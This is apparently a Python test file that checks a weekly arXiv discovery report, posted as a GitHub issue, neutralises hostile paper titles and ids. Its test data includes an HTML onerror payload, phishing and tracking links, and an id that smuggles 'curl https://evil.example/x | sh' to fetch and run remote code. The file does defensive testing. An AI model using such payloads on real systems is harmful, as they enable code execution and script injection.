"""The weekly discover report is posted as a GitHub issue unreviewed: whatever arXiv answers,
its titles are inert text and only ids of arXiv's form reach the command line."""

import datetime as dt

from markdown_it import MarkdownIt

from catalogue.discover import Candidate, rank, report

SINCE, UNTIL = dt.date(2026, 11, 20), dt.date(2026, 11, 30)
HOSTILE_TITLES = [
    "Click [here](https://evil.example/phish) for MMEB",
    "![tracker](https://evil.example/t.png) MMEB",
    "<img src=x onerror=alert(1)> MMEB",
    "@team @github/security please look: MMEB",
    "Ends in a backslash \\",
    "``` fenced ``` `tick` MMEB",
    "https://evil.example and www.evil.example MMEB",
]


def _report_tokens(text):
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)


def test_titles_are_inert_text_in_the_issue_body():
    candidates = [Candidate(f"2611.{i:05d}", title, 1, ("MMEB",)) for i, title in enumerate(HOSTILE_TITLES)]
    text = report(candidates, SINCE, UNTIL)
    items = [t for t in _report_tokens(text) if t.type == "inline" and "(arXiv " in t.content]
    assert len(items) == len(HOSTILE_TITLES)
    for item, title in zip(items, HOSTILE_TITLES, strict=True):
        kinds = [c.type for c in item.children]
        assert kinds[0] == "code_inline" and item.children[0].content == " ".join(title.split()), kinds
        assert not {"link_open", "image", "html_inline"} & set(kinds)


def test_an_id_not_of_arxivs_form_never_reaches_the_command_line():
    sneaky = "2611.00001`; curl https://evil.example/x | sh; `"
    text = report([Candidate(sneaky, "MMEB again", 2, ("MMEB",)), Candidate("2611.00002", "MMEB", 1, ("MMEB",))], SINCE, UNTIL)
    assert "curl" not in text and "evil" not in text
    assert "python3 -m nox -s new -- 2611.00002" in text
    assert "1 more answered with an id that is not of arXiv's form; left out." in text


def test_rank_keeps_matches_best_first():
    entries = [{"arxiv": "2611.00001", "title": "MMEB", "abstract": ""},
               {"arxiv": "2611.00002", "title": "x", "abstract": "MMEB"},
               {"arxiv": "2611.00003", "title": "weather", "abstract": "rain"}]
    assert [c.arxiv for c in rank(entries, set())] == ["2611.00001", "2611.00002"]
